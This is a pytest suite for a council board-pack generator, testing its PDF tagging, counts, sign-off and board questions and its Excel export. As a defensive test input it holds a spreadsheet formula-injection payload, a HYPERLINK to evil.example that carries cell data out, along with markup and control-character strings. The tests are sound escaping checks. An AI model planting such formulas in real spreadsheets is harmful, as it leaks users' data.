"""The board pack read back: PDF sections, statuses and counts match the status report; its tags (PDF/UA-1), front
matter and hostile content; the page that offers it; Excel rows and escaping."""

from __future__ import annotations

import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import streamlit as st
from click.testing import CliRunner
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select
from streamlit.testing.v1 import AppTest

from cyp.access.permissions import Principal
from cyp.board.data import BoardData, BoardPackError, board_data, outcome_chart_frame
from cyp.board.excel import INDICATOR_SHEET_COLUMNS, board_pack_xlsx
from cyp.board.pdf import FONT_DIR, board_pack_pdf, printable, typeset
from cyp.bootstrap import initialise_database
from cyp.cli import cli
from cyp.read.charts import distribution_description, distribution_rows
from cyp.read.reports import status_report
from cyp.storage.db import make_engine, read_session, write_session
from cyp.storage.models import Action, Meta
from cyp.ui import PRINCIPAL_KEY
from tests.readside_factory import add_return

ROOT = Path(__file__).resolve().parent.parent

QUARTER = "2022-23 Q4"
MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
UNICODE_FONT = (FONT_DIR / "DejaVuSans.ttf").exists()


@pytest.fixture(scope="module")
def pack_db(tmp_path_factory):
    """The real framework and a few returns for one quarter and the one before (so lines can get worse)."""
    url = f"sqlite:///{tmp_path_factory.mktemp('pack') / 'cyp.db'}"
    engine = make_engine(url)
    initialise_database(engine)
    with write_session(engine) as session:
        add_return(session, "family-services", "2022-23 Q3", {"19-FB-1.2": "Green", "19-FB-1.3": "Green"})
        add_return(
            session,
            "family-services",
            QUARTER,
            {
                "19-FB-1.1": ("Blue", "Completed and signed off."),
                "19-FB-1.2": ("Red", "Waiting list for family support doubled since January."),
                "19-FB-1.3": ("Amber", MALICIOUS),
                "19-FB-1.4": ("Green", "@SUM(1+1)"),
                "19-SS-1.1": ("Amber", "-2 staff vacancies; recruitment under way."),
            },
            uploaded_at=datetime(2023, 4, 20, 9, 30, tzinfo=UTC),
            uploaded_by="a.lee",
            values={"19-SS-I1": 42.0},
        )
        session.add(Meta(key="demo", value="test"))
    yield engine, url
    engine.dispose()


@pytest.fixture(scope="module")
def pdf(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        return board_pack_pdf(session, QUARTER)


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return " ".join(" ".join(page.extract_text().split()) for page in reader.pages)


def label(status: str) -> str:
    """A status as the PDF writes it: with its icon when the font that draws icons is installed."""
    icons = {"Blue": "✓", "Green": "●", "Amber": "▲", "Red": "✖", "No return": "?"}
    return f"{icons[status]} {status}" if UNICODE_FONT else status


def test_pdf_metadata_outline_and_sections(pdf, pack_db):
    engine, _url = pack_db
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.metadata.title == f"CYP Plan 2019-23 board pack, {QUARTER}"
    assert reader.trailer["/Root"]["/Lang"] == "en-GB"
    with read_session(engine) as session:
        report = status_report(session, QUARTER)
    top_level = [item.title for item in reader.outline if not isinstance(item, list)]
    assert top_level == [
        "What changed since last quarter",
        "Overview",
        "Family Friendly Index",
        *(f"{o['ref']} {o['name']}" for o in report["outcomes"]),
        "Exceptions",
        "Submission status",
    ]
    text = pdf_text(pdf)
    assert "Contents" in text and f"Board pack: {QUARTER}" in text
    assert "Demonstration data" in text  # the demo marker is set in this database


def test_pdf_statuses_and_counts_match_the_status_report_and_the_cli(pdf, pack_db, monkeypatch):
    _engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)
    result = CliRunner().invoke(cli, ["report", "--quarter", QUARTER, "--format", "json"])
    assert result.exit_code == 0, result.output
    report = json.loads(result.output)
    assert (report["quarter"], len(report["lines"])) == (QUARTER, 78)
    assert {o["status"] for o in report["outcomes"]} == {"No return"}  # too few returns in every outcome
    text = pdf_text(pdf)
    # Worked out from pack_db on the real 2019-23 framework (data/framework/plan-2019-2023.yaml: 78 lines, FB 11,
    # SS 18, EL 20, CU 6, CL 6, CO 6, HW 11): more than half of every outcome's lines have no return this quarter.
    lines = {
        "19-FB": "1 Blue, 1 Green, 1 Amber, 1 Red, 7 No return (11 lines)",
        "19-SS": "0 Blue, 0 Green, 1 Amber, 0 Red, 17 No return (18 lines)",
        "19-EL": "0 Blue, 0 Green, 0 Amber, 0 Red, 20 No return (20 lines)",
        "19-CU": "0 Blue, 0 Green, 0 Amber, 0 Red, 6 No return (6 lines)",
        "19-CL": "0 Blue, 0 Green, 0 Amber, 0 Red, 6 No return (6 lines)",
        "19-CO": "0 Blue, 0 Green, 0 Amber, 0 Red, 6 No return (6 lines)",
        "19-HW": "0 Blue, 0 Green, 0 Amber, 0 Red, 11 No return (11 lines)",
    }
    assert [outcome["ref"] for outcome in report["outcomes"]] == list(lines)
    for ref, counts in lines.items():
        assert f"Overall status: {label('No return')}. Lines: {counts}." in text, ref
    assert f"All lines in {QUARTER}: 1 Blue, 1 Green, 2 Amber, 1 Red, 73 No return (78 lines)." in text
    # FB: one each of Blue, Red, Amber, Green and seven lines with no return, so the rule says "No return".
    fb = next(o for o in report["outcomes"] if o["ref"] == "19-FB")
    assert fb["status"] == "No return" and (fb["counts"]["Red"], fb["counts"]["No return"]) == (1, 7)


def test_board_data_outcomes_and_rule_are_the_status_reports(pack_db):
    # board_data reads the outcomes without status_report's list of lines; they must stay the report's, either way
    # of counting (current returns; signed-off ones only, when there are none here).
    engine, _url = pack_db
    with read_session(engine) as session:
        for signed in (False, True):
            report = status_report(session, QUARTER, "2019-23", signed_off_only=signed)
            data = board_data(session, QUARTER, "2019-23", signed_off_only=signed)
            assert (data.outcomes, data.rule) == (report["outcomes"], report["rule"])
            assert len(data.lines) == len(report["lines"]) == 78
    assert data.outcomes[0]["counts"]["No return"] == 11  # nothing signed off: every FB line has no return


def test_the_display_s_board_data_is_the_pack_s_without_the_index(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        pack = board_data(session, QUARTER, "2019-23")
        screen = board_data(session, QUARTER, "2019-23", with_index=False)
    assert screen.domains.empty and screen.domain_map.empty and len(pack.domains) == 9 and not pack.domain_map.empty
    for name in BoardData.__dataclass_fields__:
        if name in ("domains", "domain_map", "generated_at"):
            continue
        mine, theirs = getattr(screen, name), getattr(pack, name)
        if isinstance(mine, dict):  # the exceptions: a frame per kind
            assert mine.keys() == theirs.keys() and all(mine[k].equals(theirs[k]) for k in mine), name
        elif isinstance(mine, pd.DataFrame):
            assert mine.equals(theirs), name
        else:
            assert mine == theirs, name


def test_pdf_has_commentary_for_red_and_amber_lines_charts_exceptions_and_submissions(pdf):
    text = pdf_text(pdf)
    assert "Waiting list for family support doubled since January." in text  # the Red line
    assert "-2 staff vacancies; recruitment under way." in text  # an Amber line, unescaped in the PDF
    assert "Completed and signed off." not in text  # a Blue line's progress is not commentary
    assert "Red lines (1)" in text and "Worse than last quarter (2)" in text  # 1.2 Green→Red, 1.3 Green→Amber
    assert "Family Services" in text and "a.lee" in text  # the submission status table
    figures = [element for element in structure(pdf) if element["/S"] == "/Figure"]
    # The overview chart, a status chart per outcome (seven) and one chart for the one indicator with a value.
    assert len(figures) == 9


def structure(content: bytes) -> list[Any]:
    """Every structure element of the PDF's tag tree, in reading order."""
    root = PdfReader(io.BytesIO(content)).trailer["/Root"]
    found: list[Any] = []

    def walk(node: Any) -> None:
        node = node.get_object() if hasattr(node, "get_object") else node
        if isinstance(node, dict):
            if "/S" in node:
                found.append(node)
            if "/K" in node:
                walk(node["/K"])
        elif isinstance(node, list):
            for kid in node:
                walk(kid)

    walk(root["/StructTreeRoot"])
    return found


def test_pdf_is_tagged_for_pdf_ua(pdf, pack_db):
    reader = PdfReader(io.BytesIO(pdf))
    root = reader.trailer["/Root"]
    assert "/StructTreeRoot" in root
    assert root["/MarkInfo"]["/Marked"] == True  # noqa: E712 - a pypdf BooleanObject, not the bool
    assert root["/Lang"] == "en-GB"
    assert root["/ViewerPreferences"]["/DisplayDocTitle"] == True  # noqa: E712
    assert b"<pdfuaid:part>1</pdfuaid:part>" in root["/Metadata"].get_object().get_data()
    elements = structure(pdf)
    kinds = {element["/S"] for element in elements}
    assert {"/H1", "/H2", "/H3", "/P", "/L", "/LI", "/Table", "/TH", "/TD", "/Figure", "/TOC"} <= kinds
    # Every chart carries its description as alt text: the same words the chart builders give the pages.
    alts = [str(element.get("/Alt", "")) for element in elements if element["/S"] == "/Figure"]
    assert alts and all(alt.strip() for alt in alts)
    engine, _url = pack_db
    with read_session(engine) as session:
        data = board_data(session, QUARTER)
    rows, groups = distribution_rows(outcome_chart_frame(data))
    assert alts[0] == distribution_description(rows, groups, "Lines by status, per outcome")
    assert any(alt.startswith("19-SS-I1 ") and "2022-23 Q4 42" in alt for alt in alts)
    # Headings in reading order, none skipped: an H1 per section of the contents (and the contents itself) first.
    headings = [element["/S"] for element in elements if element["/S"] in ("/H1", "/H2", "/H3")]
    assert headings[0] == "/H1"  # "What changed since last quarter"
    outline = [item for item in reader.outline if not isinstance(item, list)]
    assert headings.count("/H1") == len(outline) + 1
    assert all(int(after[2]) <= int(before[2]) + 1 for before, after in zip(headings, headings[1:], strict=False))


def test_front_matter_contents_and_page_numbers(pdf):
    reader = PdfReader(io.BytesIO(pdf))
    pages = [" ".join(page.extract_text().split()) for page in reader.pages]
    total = len(pages)
    for number, text in enumerate(pages, start=1):
        assert text.endswith(f"page {number} of {total}"), number  # every page footed with its own number
        body = text.removesuffix(f"CYP Plan 2019-23 · Board pack {QUARTER} · page {number} of {total}").strip()
        assert len(body) > 20, f"page {number} is blank"
    assert pages[0].startswith("Barnet Children and Young People's Plan Board pack: 2022-23 Q4")
    # The first page after the title says what changed; the contents follow it.
    assert pages[1].startswith("What changed since last quarter 2022-23 Q4 against 2022-23 Q3, the whole plan:")
    assert pages[2].startswith("Contents What changed since last quarter")
    # Each contents entry names the page its bookmark opens at.
    for item in reader.outline:
        if isinstance(item, list):
            continue
        page = reader.get_destination_page_number(item) + 1
        assert re.search(rf"{re.escape(item.title)} \.+ {page}\b", pages[2]), item.title
        assert item.title in pages[page - 1]


def test_first_page_says_what_changed_since_last_quarter_for_the_plan_and_per_outcome(pdf):
    page = " ".join(PdfReader(io.BytesIO(pdf)).pages[1].extract_text().split())
    # pack_db: 2022-23 Q3 had 19-FB-1.2 and 1.3 Green; Q4 has 1.1 Blue, 1.2 Red, 1.3 Amber, 1.4 Green and SS-1.1
    # Amber, so five lines changed (three from No return), one became Red and none recovered.
    assert (
        "2022-23 Q4 against 2022-23 Q3, the whole plan: 5 status changes, 1 new Red, 0 lines recovered, "
        "0 board questions answered." in page
    )
    assert "19-FB Family & Belonging 4 1 0 0" in page and "19-SS Safe & Secure 1 0 0 0" in page
    assert "19-EL Education & Learning 0 0 0 0" in page
    assert "4 status changes, 1 new Red, 0 lines recovered, 0 board questions answered." in page
    # The team is the one that reports the line (the framework's), whoever sent this return.
    assert f"19-FB-1.2 Young Barnet Foundation {label('Green')} {label('Red')} new Red" in page
    assert f"19-FB-1.1 Family Services {label('No return')} {label('Blue')}" in page
    assert f"19-SS-1.1 Family Services {label('No return')} {label('Amber')}" in page


def test_the_excel_lists_what_changed_since_last_quarter(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        workbook = load_workbook(io.BytesIO(board_pack_xlsx(session, QUARTER)))
    rows = list(workbook["What changed"].iter_rows(values_only=True))
    assert rows[0] == ("Outcome ref", "Outcome", "Line ref", "Line", "Team", "Last quarter", "Status", "Change")
    assert [(row[2], row[5], row[6], row[7]) for row in rows[1:]] == [
        ("19-FB-1.1", "No return", "Blue", None),
        ("19-FB-1.2", "Green", "Red", "new Red"),
        ("19-FB-1.3", "Green", "Amber", None),
        ("19-FB-1.4", "No return", "Green", None),
        ("19-SS-1.1", "No return", "Amber", None),
    ]


def test_no_word_is_split_inside_a_table_cell(pdf):
    lines = [line.strip() for page in PdfReader(io.BytesIO(pdf)).pages for line in page.extract_text().splitlines()]
    headers = "Indicator Name Latest Value Target Status Direction"
    assert any(line == headers for line in lines)
    assert any(line.startswith("Team State Lines Due Submitted (UTC) By Version") for line in lines)
    for word in ("Direction", "Submitted", "Progress", "Amber", "return"):
        assert not any(line.endswith(word[:-1]) for line in lines), word


HOSTILE = {
    "long": "The waiting list grew again. " * 700,  # about 20,000 characters of prose
    "word": "x" * 20000,  # one word of 20,000 letters: a row taller than a page, in a column it must wrap in
    "mixed": "Emoji 😀👍🏽🇬🇧 RTL שלום עליכם مرحبا combining e\u0301\u0302 NUL\x00 BEL\x07 ESC\x1b C1\x9b end.",
}


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'cyp.db'}"
    engine = make_engine(url)
    initialise_database(engine)
    with write_session(engine) as session:
        add_return(
            session,
            "family-services",
            QUARTER,
            {
                "19-FB-1.2": ("Red", HOSTILE["long"]),
                "19-FB-1.3": ("Red", HOSTILE["word"]),
                "19-FB-1.4": ("Amber", HOSTILE["mixed"]),
            },
        )
    yield engine
    engine.dispose()


def test_the_pack_never_fails_on_content(hostile_db, pdf):
    with read_session(hostile_db) as session:
        content = board_pack_pdf(session, QUARTER)
    reader = PdfReader(io.BytesIO(content))
    assert len(reader.pages) >= len(PdfReader(io.BytesIO(pdf)).pages) + 10  # the long texts run over pages
    text = pdf_text(content)
    # In the commentary and the Red lines table (a sentence a page break cuts does not count).
    assert text.count("The waiting list grew again.") >= 2 * 690
    assert "שלום" in text and "مرحبا" in text and "end." in text
    assert "NUL BEL ESC C1 end." in text  # control characters dropped, nothing else lost
    # DejaVu Sans draws 😀; no font here draws 👍🏽 or 🇬🇧: one replacement mark for the run, never an error.
    assert "Emoji 😀\ufffd RTL" in text
    assert text.count("x") >= 2 * 20000  # the 20,000-letter word is all there, wrapped over lines and pages


def test_printable_keeps_what_it_can_and_drops_what_no_pdf_can_hold():
    assert printable("  two\n\nlines\t") == "two lines"
    assert printable("a\ud800b\x00c\x7f") == "abc"  # a lone surrogate, NUL and DEL
    assert printable("e\u0301 שלום") == "e\u0301 שלום"
    assert printable("漢字 and สวัสดี") == "\ufffd and \ufffd"
    assert printable("y" * 45) == "y" * 20 + "\u200b" + "y" * 20 + "\u200b" + "y" * 5
    assert printable(None) == "" and printable(float("nan")) == ""


def test_a_pack_that_cannot_be_typeset_raises_a_board_pack_error(pdf, monkeypatch, tmp_path):
    with pytest.raises(BoardPackError, match="could not be typeset"):
        typeset({"title": "no cover, no blocks"})
    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", tmp_path / "missing.py")
    with pytest.raises(BoardPackError, match="could not be typeset"):
        typeset({"title": "x"})


def test_board_pack_page_offers_both_files_or_says_why_not(pack_db, monkeypatch):
    _engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)

    def page() -> AppTest:
        st.cache_data.clear()
        st.cache_resource.clear()
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
        at.session_state[PRINCIPAL_KEY] = Principal("director", "viewer")
        at.run()
        at.query_params["quarter"] = QUARTER
        at.switch_page("app_pages/board_pack.py")
        at.run()
        # Nothing is built until asked for: opening the page stays quick at council scale.
        assert not at.get("download_button")
        at.button(key="board_pack_prepare").click().run()
        assert not at.exception, [e.value for e in at.exception]
        return at

    at = page()
    assert [button.proto.label for button in at.get("download_button")] == ["Board pack (PDF)", "Board data (Excel)"]
    assert not at.error
    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", ROOT / "no-such-typesetter.py")
    at = page()
    assert [button.proto.label for button in at.get("download_button")] == ["Board data (Excel)"]
    assert "The Board pack (PDF) could not be built: the PDF could not be typeset" in at.error[0].value


def test_xlsx_has_every_line_with_context_and_escapes_formulas(pack_db):
    engine, _url = pack_db
    with read_session(engine) as session:
        content = board_pack_xlsx(session, QUARTER)
        data = board_data(session, QUARTER)
    workbook = load_workbook(io.BytesIO(content))
    lines = workbook["Lines"]
    headings = [cell.value for cell in lines[1]]
    rows = [dict(zip(headings, (cell.value for cell in row), strict=True)) for row in lines.iter_rows(min_row=2)]
    assert len(rows) == len(data.lines) == 78
    assert lines.freeze_panes == "A2" and lines.auto_filter.ref == f"A1:T{len(rows) + 1}"
    by_ref = {row["Line ref"]: row for row in rows}
    red = by_ref["19-FB-1.2"]
    assert (red["Plan"], red["Outcome"], red["Objective ref"], red["Status"]) == (
        "2019-23",
        "Family & Belonging",
        "19-FB-1",
        "Red",
    )
    assert (red["Version"], red["Submitted by"], red["Reported by team"]) == (1, "a.lee", "Family Services")
    assert red["Submitted at (UTC)"] == datetime(2023, 4, 20, 9, 30)
    assert red["Last quarter"] == "Green"
    assert by_ref["19-HW-1.1"]["Status"] == "No return"
    # Text that a spreadsheet would run as a formula is a text cell, exactly as typed (no leading quote).
    assert by_ref["19-FB-1.3"]["Progress"] == MALICIOUS
    assert by_ref["19-FB-1.4"]["Progress"] == "@SUM(1+1)"
    assert by_ref["19-SS-1.1"]["Progress"] == "-2 staff vacancies; recruitment under way."
    for row in lines.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
        assert all(cell.data_type == "s" for cell in row if isinstance(cell.value, str))
    indicators = workbook["Indicators"]
    values = [
        dict(zip(INDICATOR_SHEET_COLUMNS, (c.value for c in row), strict=True))
        for row in indicators.iter_rows(min_row=2)
    ]
    assert [(v["Indicator ref"], v["Value"], v["Outcome"], v["Submitted by"]) for v in values] == [
        ("19-SS-I1", 42.0, "Safe & Secure", "a.lee")
    ]


def test_export_command_writes_excel_and_refuses_other_extensions(pack_db, monkeypatch, tmp_path):
    _engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)
    out = tmp_path / "data.xlsx"
    result = CliRunner().invoke(cli, ["export", "--quarter", "Jan-Mar 2023", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert re.match(r"Wrote .*data\.xlsx \([\d,]+ bytes\)\.", result.output)
    assert load_workbook(out)["Lines"].max_row == 79
    bad = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(tmp_path / "pack.docx")])
    assert bad.exit_code == 2 and "must end in .pdf or .xlsx" in bad.output
    unknown = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(out), "--plan", "nope"])
    assert unknown.exit_code == 1 and "There is no plan 'nope'" in unknown.output


def test_export_command_says_why_a_pack_cannot_be_built(pack_db, monkeypatch, tmp_path):
    _engine, url = pack_db
    monkeypatch.setenv("CYP_DATABASE_URL", url)
    monkeypatch.setattr("cyp.board.pdf.TYPESETTER", tmp_path / "missing.py")
    result = CliRunner().invoke(cli, ["export", "--quarter", QUARTER, "--out", str(tmp_path / "pack.pdf")])
    assert result.exit_code == 1
    assert "The board pack could not be built: the PDF could not be typeset" in result.output
    assert not (tmp_path / "pack.pdf").exists()


@pytest.fixture(scope="module")
def demo_packs(tmp_path_factory):
    """The real demo data (its 2023-27 lines are made up and given a team by the demo) and both plans' packs."""
    from cyp.demo import generate_demo

    url = f"sqlite:///{tmp_path_factory.mktemp('demo') / 'cyp.db'}"
    engine = make_engine(url)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CYP_TODAY", "2026-11-23")
        initialise_database(engine)
        with write_session(engine) as session:
            generate_demo(session)
        packs = {}
        with read_session(engine) as session:
            for plan, quarter in (("2023-27", "2026-27 Q2"), ("2019-23", QUARTER)):
                data = board_data(session, quarter, plan)
                packs[plan] = (data, board_pack_pdf(session, quarter, plan), board_pack_xlsx(session, quarter, plan))
    yield packs
    engine.dispose()


def test_demo_team_assignments_are_labelled_as_demo_in_the_pdf(demo_packs):
    data, content, _xlsx = demo_packs["2023-27"]
    assert len(data.lines) == 19 and data.lines["is_demo"].all()  # every 2023-27 line is the demo's
    text = pdf_text(content)
    for line in data.lines.to_dict("records"):
        # The objective's table row: ref, status, the objective, then the team with the label.
        assert re.search(rf"{re.escape(line['ref'])} .{{0,400}}?{re.escape(line['teams'])} \(demo assignment\)", text)
    flagged = data.lines[data.lines["status"].isin(["Red", "Amber"])]
    assert len(flagged)  # so the commentary headings are checked too
    for line in flagged.to_dict("records"):
        label_ = f"{line['ref']} {label(line['status'])} · {line['teams']} (demo assignment)"
        assert label_ in text, line["ref"]
    # The what-changed page too: every changed line's team carries the label.
    changed = data.changes.status_changes
    assert changed
    front = text[: text.index("Contents What changed")]
    for change in changed:
        assert f"{change.ref} {change.team} (demo assignment)" in front, change.ref
    # The 2019-23 lines are the plan's own, with the teams the plan names: never labelled as demo.
    old_data, old_pdf, _ = demo_packs["2019-23"]
    assert not old_data.lines["is_demo"].any() and "(demo assignment)" not in pdf_text(old_pdf)


def test_demo_team_assignments_are_labelled_as_demo_in_the_excel(demo_packs):
    for plan in ("2023-27", "2019-23"):
        data, _pdf, content = demo_packs[plan]
        workbook = load_workbook(io.BytesIO(content))
        sheet = workbook["Lines"]
        headings = [cell.value for cell in sheet[1]]
        rows = [dict(zip(headings, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
        demo = dict(zip(data.lines["ref"], data.lines["is_demo"], strict=True))
        assert len(rows) == len(demo)
        for row in rows:
            if demo[row["Line ref"]]:
                assert row["Teams"].endswith(" (demo assignment)"), row
                assert row["Reported by team"] is None or row["Reported by team"].endswith(" (demo assignment)")
                assert row["Demo"].startswith("yes: line and team made up by the demo")
            else:
                assert "demo assignment" not in (row["Teams"] or "") + (row["Reported by team"] or "")
                assert row["Demo"] in ("", None)
        about = {row[0].value: row[1].value for row in workbook["About"].iter_rows(min_row=2)}
        assert "(demo assignment) was given the line by the demo data" in about["Team assignments"]
        changed = list(workbook["What changed"].iter_rows(min_row=2, values_only=True))
        assert changed and all(row[4].endswith(" (demo assignment)") == demo[row[2]] for row in changed)


def test_the_index_mapping_is_labelled_as_the_projects_judgement(demo_packs):
    for plan in ("2023-27", "2019-23"):
        data, content, xlsx = demo_packs[plan]
        assert len(data.domain_map)  # both plans have mappings in data/framework/index-mapping.csv
        text = pdf_text(content)
        # The section opens with the note (the contents page names the section first).
        start = text.index("Family Friendly Index About the index mapping. Which objectives and indicators count")
        section = text[start : text.index("What counts towards each domain", start) + 200]
        assert "domain is this project's judgement, not part of the plan" in section
        assert "What counts towards each domain (the project's judgement)" in text
        first = data.domain_map.iloc[0]
        assert first["ref"] in text[start:]
        workbook = load_workbook(io.BytesIO(xlsx))
        mapping = list(workbook["Index mapping"].iter_rows(values_only=True))
        assert mapping[0][-1] == "Whose mapping" and len(mapping) == len(data.domain_map) + 1
        assert {row[-1] for row in mapping[1:]} == {"the project's judgement, not the plan's"}
        about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
        assert "this project's judgement, not part of the plan" in about["Index mapping"]
        domains = list(workbook["Index domains"].iter_rows(min_row=2, values_only=True))
        assert [row[0] for row in domains] == list(data.domains["domain_ref"]) and len(domains) == 9


@pytest.mark.skipif(not UNICODE_FONT, reason="Debian's fonts-dejavu-core is not installed")
def test_font_tables_read_with_struct_match_fonttools():
    from fontTools.ttLib import TTFont

    from cyp.board.fonts import advance_widths, cmap_points
    from cyp.board.pdf import FONT_DIRS

    fonts = [path for folder in FONT_DIRS for path in sorted(folder.glob("*.ttf"))]
    assert len(fonts) >= 4
    for path in fonts:
        with TTFont(path, lazy=True) as font:
            best = font.getBestCmap()
            metrics, per_em = font["hmtx"], font["head"].unitsPerEm
            assert cmap_points(path) == set(best), path.name
            assert advance_widths(path) == {code: metrics[glyph][0] / per_em for code, glyph in best.items()}, path
    assert cmap_points(ROOT / "README.md") == set()  # not a font: nothing drawable, no exception


TYPST_MARKUP = "#set page(width: 1pt) *bold* $x^2$ [link](http://x) #emph[y] // not a comment"


@pytest.fixture(scope="module")
def cycle_db(tmp_path_factory):
    """Sign-off and board questions on the real framework: Family Services' 2022-23 Q4 return signed off as
    version 1 and awaiting as version 2; Public Health's awaiting with nothing signed off; open questions, one
    overdue and one carrying Typst markup, and one answered by the Q4 return."""
    from datetime import date

    from cyp.access.permissions import SYSTEM
    from cyp.cycle.questions import ask_question
    from cyp.cycle.signoff import sign_off
    from cyp.returns.answers import record_answers

    url = f"sqlite:///{tmp_path_factory.mktemp('cycle') / 'cyp.db'}"
    engine = make_engine(url)
    initialise_database(engine)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CYP_TODAY", "2026-11-23")
        with write_session(engine) as session:
            add_return(session, "family-services", "2022-23 Q3", {"19-FB-1.2": "Red"})
            ask_question(session, SYSTEM, "19-FB-1.2", "2022-23 Q3", "When does the waiting list come down?")
            first = add_return(
                session,
                "family-services",
                QUARTER,
                {"19-FB-1.1": "Green", "19-FB-1.2": "Green"},
                uploaded_at=datetime(2023, 4, 18, 10, 0, tzinfo=UTC),
                uploaded_by="a.lee",
            )
            line = session.scalar(select(Action).where(Action.ref == "19-FB-1.2"))
            record_answers(session, first.id, QUARTER, [(line.id, "It came down in March.")], "a.lee")
            sign_off(session, SYSTEM, "family-services", QUARTER)
            add_return(
                session,
                "family-services",
                QUARTER,
                {"19-FB-1.1": "Red", "19-FB-1.2": "Red"},
                uploaded_at=datetime(2023, 4, 25, 16, 45, tzinfo=UTC),
                uploaded_by="b.khan",
            )
            add_return(
                session,
                "public-health",
                QUARTER,
                {"19-HW-1.1": "Amber"},
                uploaded_at=datetime(2023, 4, 21, 8, 15, tzinfo=UTC),
                uploaded_by="c.okoro",
            )
            ask_question(session, SYSTEM, "19-FB-1.3", QUARTER, TYPST_MARKUP, due_by=date(2023, 6, 30))
            ask_question(
                session,
                SYSTEM,
                "19-SS-1.1",
                QUARTER,
                "Bring the recruitment plan.",
                kind="action",
                due_by=date(2027, 1, 5),
            )
            ask_question(session, SYSTEM, "19-SS-1.2", "2023-24 Q1", "Asked after this pack's quarter.")
    yield engine
    engine.dispose()


def cycle_pack(engine, monkeypatch, signoff: bool, raw: bool = False) -> tuple[Any, Any, Any]:
    """The board data, the PDF (its text unless ``raw``) and the Excel workbook, with sign-off on or off."""
    monkeypatch.setenv("CYP_SIGNOFF", "1" if signoff else "0")
    with read_session(engine) as session:
        data = board_data(session, QUARTER)
        content = board_pack_pdf(session, QUARTER)
        workbook = load_workbook(io.BytesIO(board_pack_xlsx(session, QUARTER)))
    return data, content if raw else pdf_text(content), workbook


def test_with_signoff_on_the_pack_counts_signed_off_returns_and_lists_what_awaits(cycle_db, monkeypatch):
    data, text, workbook = cycle_pack(cycle_db, monkeypatch, signoff=True)
    assert data.signed_off_only
    # Family Services' signed-off version 1 counts (both lines Green), not its version 2 awaiting (both Red);
    # Public Health has nothing signed off, so its line has no return in the pack.
    lines = data.lines.set_index("ref")["status"]
    assert (lines["19-FB-1.1"], lines["19-FB-1.2"], lines["19-HW-1.1"]) == ("Green", "Green", "No return")
    assert "Red lines (0)" in text
    assert "Sign-off is on: this pack counts each team's latest signed-off return; 2 awaiting sign-off" in text
    assert "the whole plan (signed-off returns only):" in text
    section = text[text.index("Awaiting sign-off (2)") :]
    assert "Family Services 2022-23 Q4 2 25 Apr 2023 16:45 b.khan version 1" in section
    assert "Public Health 2022-23 Q4 1 21 Apr 2023 08:15 c.okoro nothing yet" in section
    awaiting = list(workbook["Awaiting sign-off"].iter_rows(min_row=2, values_only=True))
    assert awaiting == [
        ("Family Services", QUARTER, 2, datetime(2023, 4, 25, 16, 45), "b.khan", "version 1"),
        ("Public Health", QUARTER, 1, datetime(2023, 4, 21, 8, 15), "c.okoro", "nothing yet"),
    ]
    sheet = workbook["Lines"]
    headings = [cell.value for cell in sheet[1]]
    rows = {row[6]: dict(zip(headings, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert (rows["19-FB-1.1"]["Status"], rows["19-FB-1.1"]["Version"], rows["19-FB-1.1"]["Submitted by"]) == (
        "Green",
        1,
        "a.lee",
    )
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(min_row=2, values_only=True)}
    assert about["Sign-off"].startswith("On: every figure counts each team's latest signed-off return")


def test_with_signoff_off_the_pack_counts_current_returns(cycle_db, monkeypatch):
    data, text, workbook = cycle_pack(cycle_db, monkeypatch, signoff=False)
    lines = data.lines.set_index("ref")["status"]
    assert (lines["19-FB-1.1"], lines["19-FB-1.2"], lines["19-HW-1.1"]) == ("Red", "Red", "Amber")
    assert "Awaiting sign-off" not in text and "Sign-off is on" not in text
    assert "Awaiting sign-off" not in workbook.sheetnames


def test_open_board_questions_show_per_outcome_with_due_dates_and_overdue(cycle_db, monkeypatch):
    data, text, workbook = cycle_pack(cycle_db, monkeypatch, signoff=False)
    # Open and asked by this quarter: the markup one (due 30 Jun 2023, so overdue on 23 Nov 2026) and the action;
    # the answered one is closed and the one asked in 2023-24 Q1 comes after this pack's quarter.
    assert [(q.line_ref, q.overdue) for q in data.questions] == [("19-FB-1.3", True), ("19-SS-1.1", False)]
    assert "Open board questions (1, 1 overdue)" in text  # Family & Belonging, and Safe & Secure below
    assert "Open board questions (1, 0 overdue)" in text
    assert "Open board questions (0, 0 overdue)" in text  # the other outcomes say so
    assert "19-SS-1.1 Family Services 2022-23 Q4 by system Action: Bring the recruitment plan. 05 Jan 2027" in text
    assert "Board questions overdue (1 of 2 open)" in text
    assert "19-FB-1.3 Family Services 2022-23 Q4 by system Question:" in text and "30 Jun 2023 overdue" in text
    sheet = list(workbook["Board questions"].iter_rows(values_only=True))
    assert sheet[0] == tuple(
        [
            "Line ref",
            "Outcome",
            "Team",
            "Quarter asked",
            "Kind",
            "Question",
            "Asked by",
            "Asked at (UTC)",
            "Due by",
            "Overdue",
        ]
    )
    assert [(row[0], row[3], row[4], row[9]) for row in sheet[1:]] == [
        ("19-FB-1.3", QUARTER, "question", "overdue"),
        ("19-SS-1.1", QUARTER, "action", None),
    ]


